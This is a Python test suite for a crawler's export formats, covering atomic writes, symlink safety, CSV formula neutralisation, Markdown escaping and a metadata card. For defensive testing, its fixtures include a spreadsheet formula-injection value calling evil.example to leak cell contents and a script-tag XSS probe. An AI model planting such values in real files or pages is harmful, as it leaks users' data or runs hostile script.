"""Files of exports: whole or not at all, harmless to who opens them, and read by the tools of the trade."""

from __future__ import annotations

import csv
import gzip
import hashlib
import io
import json
import re
import signal
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.local_site import article
from tests.tracked import HOME, Story, story_after
from variorum.crawler.errors import Misuse
from variorum.crawler.export.atomic_write import MARK
from variorum.crawler.export.document_outline import OUTLINE
from variorum.crawler.export.export import CAPTURE, FORMATS, GROUP, ExportRequest, export_to, format_of
from variorum.crawler.export.passage_places import PLACE
from variorum.crawler.export.tables import write_csv
from variorum.storage.export import FIELDS, Document, documents

BRIDGE, MILL = "The old bridge was closed in March.", "The mill turns again since the flood."
LETTER = "نامه‌ای که هرگز نرسید، و پاسخی که نیامد."
SIGNS = "* A _star_ <script>alert(1)</script> [x](y)"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
NAMES = {
    "jsonl": "all.jsonl",
    "csv": "all.csv",
    "markdown": "all",
    "text": "all",
    "parquet": "all.parquet",
    "warc": "all.warc.gz",
}

KILLED = """
import os, signal, sys
from pathlib import Path
from variorum.crawler.export import export as exports
from variorum.storage.reader import Reader

def half(documents, reader, asked):
    yield next(documents)
    os.kill(os.getpid(), signal.SIGKILL)

whole = exports.documents_of
exports.documents_of = lambda reader, asked: half(whole(reader, asked), reader, asked)
exports.export_to(Path(sys.argv[2]), Reader.open(Path(sys.argv[1])), exports.ExportRequest(sys.argv[3]))
"""


def all_seen(story: Story) -> None:
    """A bridge, a title that is a formula, and a letter in Persian are read once."""
    with story.run() as run:
        run.sees("/bridge/", article("The bridge", BRIDGE, SIGNS))
        run.sees("/mill/", article(FORMULA, "- 1", "@SUM(A1)"))
        run.sees("/letter/", article("نامه\N{RIGHT-TO-LEFT OVERRIDE}\x85\u2028", LETTER, lang="fa"))


@pytest.fixture
def story(tmp_path: Path) -> Iterator[Story]:
    (tmp_path / "store").mkdir()
    with story_after(all_seen, tmp_path / "store" / "variorum.db") as story:
        yield story


@pytest.fixture
def out(tmp_path: Path) -> Path:
    (tmp_path / "out").mkdir()
    return tmp_path / "out"


def write(story: Story, path: Path | None, kind: str = "jsonl", **options: Any) -> tuple[int, str]:
    return export_to(path, story.reader, ExportRequest(kind, **options))


@pytest.mark.parametrize(
    ("name", "kind"),
    [
        (None, "jsonl"),
        ("all.csv", "csv"),
        ("All.CSV.zst", "csv"),
        ("all.parquet", "parquet"),
        ("all.warc.gz", "warc"),
        ("all.jsonl", "jsonl"),
        ("all", "jsonl"),
        ("all.csv.txt", "jsonl"),
    ],
)
def test_the_name_of_the_file_chooses_the_format(name: str | None, kind: str) -> None:
    assert format_of(Path(name) if name else None) == kind


def contents(folder: Path) -> dict[str, bytes]:
    return {
        one.relative_to(folder).as_posix(): one.read_bytes() for one in folder.rglob("*") if one.is_file()
    }


def remove(story: Story, path: str) -> None:
    for _ in range(2):
        with story.run() as run:
            run.misses(path)


# ---- whole or not at all


@pytest.mark.parametrize("kind", FORMATS)
def test_an_export_that_is_killed_midway_leaves_nothing_under_its_name(
    story: Story, out: Path, kind: str
) -> None:
    database = out.parent / "store" / "variorum.db"
    path = out / NAMES[kind]
    command = [sys.executable, "-c", KILLED, str(database), str(path), kind]
    assert subprocess.run(command, check=False).returncode == -signal.SIGKILL
    assert [one for one in out.iterdir() if not one.name.startswith(".")] == []
    assert [one.name for one in out.iterdir() if one.name.endswith(".draft")] != []
    assert write(story, path, kind)[0] >= 3


@pytest.mark.parametrize("kind", FORMATS)
def test_an_export_that_breaks_midway_leaves_the_old_one_and_nothing_else(
    story: Story, out: Path, kind: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = out / NAMES[kind]
    write(story, path, kind)
    before = contents(out)

    def breaking(*_: Any) -> Iterator[Document]:
        raise ZeroDivisionError
        yield

    monkeypatch.setattr("variorum.crawler.export.export.documents_of", breaking)
    with pytest.raises(ZeroDivisionError):
        write(story, path, kind)
    assert contents(out) == before


@pytest.mark.parametrize("kind", FORMATS)
def test_an_export_takes_the_place_of_an_earlier_one(story: Story, out: Path, kind: str) -> None:
    path = out / NAMES[kind]
    write(story, path, kind)
    remove(story, "/mill/")
    write(story, path, kind)
    assert {one.name for one in out.iterdir()} == {path.name, f"{path.name}.card.json"}
    if kind == "markdown":
        assert len(list(path.rglob("*.md"))) == 2


def test_an_export_replaces_a_link_and_writes_nothing_through_it(story: Story, out: Path) -> None:
    elsewhere = out / "elsewhere.txt"
    elsewhere.write_text("not ours\n")
    (out / "all.jsonl").symlink_to(elsewhere)
    write(story, out / "all.jsonl")
    assert elsewhere.read_text() == "not ours\n"
    assert not (out / "all.jsonl").is_symlink()


def test_an_export_can_be_read_by_those_who_could_read_any_new_file(story: Story, out: Path) -> None:
    ordinary = out / "ordinary"
    ordinary.touch()
    write(story, out / "all.jsonl")
    assert (out / "all.jsonl").stat().st_mode == ordinary.stat().st_mode


@pytest.mark.parametrize("make", [lambda path: path.write_text("mine"), lambda path: path.symlink_to("/tmp")])
def test_a_folder_is_never_put_in_place_of_a_file_or_a_link(
    story: Story, out: Path, make: Callable[[Path], Any]
) -> None:
    make(out / "all")
    with pytest.raises(Misuse, match="name a new one"):
        write(story, out / "all", "markdown")


def test_a_folder_that_no_export_made_is_left_alone(story: Story, out: Path) -> None:
    (out / "all").mkdir()
    (out / "all" / "thesis.txt").write_text("mine")
    with pytest.raises(Misuse, match="was not made by an export"):
        write(story, out / "all", "markdown")
    assert contents(out) == {"all/thesis.txt": b"mine"}


# ---- JSON Lines


def test_a_line_holds_a_document_in_plain_unicode_and_no_sign_that_ends_it_too_soon(
    story: Story, out: Path
) -> None:
    assert write(story, out / "all.jsonl")[0] == 3
    text = (out / "all.jsonl").read_text("utf-8")
    assert [json.loads(line) for line in text.splitlines()] == list(documents(story.reader))
    assert LETTER in text
    assert not set("\N{RIGHT-TO-LEFT OVERRIDE}\x85\u2028") & set(text)


@pytest.mark.parametrize("name", ["all.jsonl.zst", "ALL.JSONL.ZST", "all.jsonl.gz", "All.jsonl.GZ"])
def test_a_file_is_packed_as_its_name_ends(story: Story, out: Path, name: str) -> None:
    from variorum.crawler.export.tables import zstd

    write(story, out / name)
    unpack = zstd.decompress if name.lower().endswith(".zst") else gzip.decompress
    lines = unpack((out / name).read_bytes()).decode().splitlines()
    assert [json.loads(line) for line in lines] == list(documents(story.reader))


def test_a_table_with_a_name_that_ends_in_gz_is_packed(story: Story, out: Path) -> None:
    for name in ("all.csv", "all.csv.gz"):
        write(story, out / name, "csv")
    assert gzip.decompress((out / "all.csv.gz").read_bytes()) == (out / "all.csv").read_bytes()


def test_an_export_of_nothing_is_an_empty_file(story: Story, out: Path) -> None:
    assert write(story, out / "all.jsonl", site="elsewhere")[0] == 0
    assert (out / "all.jsonl").read_bytes() == b""


# ---- CSV


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file, strict=True))


def test_no_cell_is_a_formula(story: Story, out: Path) -> None:
    write(story, out / "all.csv", "csv")
    mill = rows(out / "all.csv")[1]
    assert (mill["title"], mill["text"]) == (f"'{FORMULA}", "'- 1\n@SUM(A1)")
    cells = [cell for row in rows(out / "all.csv") for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝"])
def test_whatever_begins_a_formula_gets_a_quote_before_it(start: str) -> None:
    file = io.BytesIO()
    write_csv([{"title": f"{start}1+1", "text": 'A "quoted", text'}], file, FIELDS["page"][4:6])
    [_, row] = csv.reader(io.StringIO(file.getvalue().decode(), newline=""))
    assert row == [f"'{start}1+1", 'A "quoted", text']


def test_columns_are_the_fields_and_say_what_is_gone(story: Story, out: Path) -> None:
    _, cursor = write(story, out / "all.csv", "csv")
    remove(story, "/mill/")
    write(story, out / "new.csv", "csv", since=cursor)
    assert list(rows(out / "all.csv")[0]) == [field.name for field in FIELDS["page"]]
    assert {row["gone"] for row in rows(out / "all.csv")} == {"false"}
    [gone] = rows(out / "new.csv")
    assert (gone["url"], gone["text"], gone["gone"]) == (f"{HOME}/mill/", "", "true")


# ---- Markdown


def test_a_page_is_a_file_named_by_its_id(story: Story, out: Path) -> None:
    write(story, out / "all", "markdown")
    pages = [story.page(path).id for path in ("/bridge/", "/mill/", "/letter/")]
    assert set(contents(out / "all")) == {MARK, *(f"riverside/{page}.md" for page in pages)}


def test_front_matter_is_what_the_document_says_whatever_is_in_it(story: Story, out: Path) -> None:
    yaml = pytest.importorskip("yaml")
    write(story, out / "all", "markdown")
    for document in documents(story.reader):
        file = out / "all" / "riverside" / f"{document['id'].split(':')[1]}.md"
        _, head, _ = file.read_text("utf-8").split("---\n", 2)
        assert yaml.safe_load(head) == {key: value for key, value in document.items() if key != "text"}


def test_the_text_reads_as_it_stands_and_runs_nothing(story: Story, out: Path) -> None:
    write(story, out / "all", "markdown")
    text = (out / "all" / "riverside" / f"{story.page('/bridge/').id}.md").read_text("utf-8")
    assert text.endswith(
        "# The bridge\n\nThe old bridge was closed in March.\n\n"
        r"\* A \_star\_ \<script\>alert(1)\</script\> \[x\](y)" + "\n"
    )


def test_what_is_gone_is_a_file_that_says_so(story: Story, out: Path) -> None:
    _, cursor = write(story, out / "all", "markdown")
    remove(story, "/mill/")
    write(story, out / "new", "markdown", since=cursor)
    page = story.page("/mill/").id
    assert contents(out / "new").keys() == {MARK, f"riverside/{page}.md"}
    assert "gone: true\n---\n" in (out / "new" / "riverside" / f"{page}.md").read_text()


# ---- plain text


def test_a_folder_of_text_has_a_file_for_each_page_and_an_empty_one_for_what_is_gone(
    story: Story, out: Path
) -> None:
    _, cursor = write(story, out / "all", "text")
    bridge, mill = (f"riverside/{story.page(path).id}.txt" for path in ("/bridge/", "/mill/"))
    first = next(one for one in documents(story.reader) if one["url"] == f"{HOME}/bridge/")
    assert contents(out / "all")[bridge] == f"{first['title']}\n\n{first['text']}\n".encode()
    assert mill in contents(out / "all")
    remove(story, "/mill/")
    write(story, out / "new", "text", since=cursor)
    assert contents(out / "new") == {MARK: b"", mill: b""}
    write(story, out / "versions", "text", unit="version")
    assert bridge.replace(".txt", "@1.txt") in contents(out / "versions")


# ---- Parquet


def test_parquet_has_the_documents_and_their_types(story: Story, out: Path) -> None:
    pq = pytest.importorskip("pyarrow.parquet")
    write(story, out / "all.parquet", "parquet", outline=True)
    table = pq.read_table(out / "all.parquet")
    assert [row["text"] for row in table.to_pylist()] == [one["text"] for one in documents(story.reader)]
    assert {name: str(table.schema.field(name).type) for name in ("id", "version", "gone", "links")} == {
        "id": "string",
        "version": "int64",
        "gone": "bool",
        "links": "list<element: string>",
    }


def test_parquet_without_its_extra_is_refused_in_words(
    story: Story, out: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(Misuse, match=r"Parquet needs an extra: .*pip install"):
        write(story, out / "all.parquet", "parquet")
    assert list(out.iterdir()) == []


# ---- what does not go together


@pytest.mark.parametrize(
    "options",
    [
        {"kind": "parquet", "path": None},
        {"kind": "markdown", "unit": "paragraph"},
        {"kind": "text", "unit": "passage"},
        {"kind": "warc", "unit": "version"},
        {"unit": "paragraph", "outline": True},
        {"unit": "passage", "outline": True},
    ],
)
def test_what_does_not_go_together_is_refused_in_words(
    story: Story, out: Path, options: dict[str, Any]
) -> None:
    with pytest.raises(Misuse):
        write(story, **{"path": out / "all", **options})
    assert list(out.iterdir()) == []


# ---- more about a text


def test_an_outline_has_the_headings_and_links_of_the_text_alone(story: Story, out: Path) -> None:
    links = '<a href="/mill/">The mill</a> <a href="javascript:x()">x</a>'
    heads = [("fa", "/fa/links/"), ("en", "/links/"), ("x-default", "/links/"), ("sq", "javascript:x()")]
    named = "".join(f'<link rel="alternate" hreflang="{code}" href="{url}">' for code, url in heads)
    page = article("Links", BRIDGE).replace("<head>", f"<head>{named}")
    page = page.replace("</div></article>", f"<h2>Where to go</h2><p>{BRIDGE} {links}</p></div></article>")
    with story.run() as run:
        run.sees("/links/", page)
    write(story, out / "all.jsonl", outline=True)
    found = [json.loads(line) for line in (out / "all.jsonl").read_text().splitlines()][-1]
    assert found["headings"] == ["Where to go"]
    assert found["links"] == [f"{HOME}/mill/"]
    assert found["editions"] == [f"fa {HOME}/fa/links/"]


def test_pages_with_one_text_have_one_family(story: Story, out: Path) -> None:
    with story.run() as run:
        run.sees("/copy/", article("The bridge", BRIDGE, SIGNS))
    write(story, out / "all.jsonl", groups=True)
    found = [json.loads(line)["family"] for line in (out / "all.jsonl").read_text().splitlines()]
    assert found[0] == found[3] is not None
    assert found[1:3] == [None, None]


# ---- the card


def test_a_card_beside_the_file_says_what_is_in_it(story: Story, out: Path) -> None:
    _, cursor = write(story, out / "all.jsonl")
    card = json.loads((out / "all.jsonl.card.json").read_text())
    assert (card["documents"], card["gone"], card["cursor"]) == (3, 0, cursor)
    assert (card["sites"], card["languages"]["fa"]) == ({"riverside": 3}, 1)
    assert card["dates"]["captured_at"]["from"] == min(one["captured_at"] for one in documents(story.reader))
    assert [one["name"] for one in card["fields"]] == [field.name for field in FIELDS["page"]]
    assert card["files"] == [
        {
            "name": "all.jsonl",
            "bytes": (out / "all.jsonl").stat().st_size,
            "sha256": hashlib.sha256((out / "all.jsonl").read_bytes()).hexdigest(),
        }
    ]
    assert "belong to their authors" in card["licence"]


def test_the_card_of_a_folder_names_every_file_of_it(story: Story, out: Path) -> None:
    write(story, out / "all", "markdown")
    card = json.loads((out / "all.card.json").read_text())
    assert {one["name"] for one in card["files"]} == {f"all/{n}" for n in contents(out / "all") if n != MARK}


# ---- the tools of the trade, as docs/export.md has it

ROOT = Path(__file__).parent.parent


def test_every_field_is_written_down_with_its_type_and_no_other() -> None:
    rows = re.findall(r"^\| `(\w+)` \| (\w+) \| \S.* \|$", (ROOT / "docs/export.md").read_text("utf-8"), re.M)
    fields = [*(field for unit in FIELDS.values() for field in unit), *OUTLINE, *PLACE, GROUP, *CAPTURE]
    assert set(rows) == {(field.name, field.type) for field in fields}


def one_liners(tool: str) -> list[str]:
    """The lines of the document that import this tool and load a file."""
    lines = (ROOT / "docs/export.md").read_text("utf-8").splitlines()
    return [line for line in lines if line.startswith(f"import {tool}; ") or line.startswith(f"from {tool} ")]


@pytest.mark.parametrize("tool", ["pandas", "duckdb", "datasets"])
def test_the_lines_that_the_document_shows_load_an_export(
    story: Story, out: Path, tool: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    pytest.importorskip(tool)
    pytest.importorskip("pyarrow")
    write(story, out / "nejatngo.jsonl")
    write(story, out / "nejatngo.parquet", "parquet")
    monkeypatch.chdir(out)
    monkeypatch.setenv("HF_DATASETS_CACHE", str(out / "cache"))
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    lines = one_liners(tool)
    assert len(lines) == 2
    for line in lines:
        names: dict[str, Any] = {}
        exec(line, names)
        found = names["documents"]
        texts = found["text"].tolist() if tool != "datasets" else list(found["text"])
        assert texts == [one["text"] for one in documents(story.reader)]
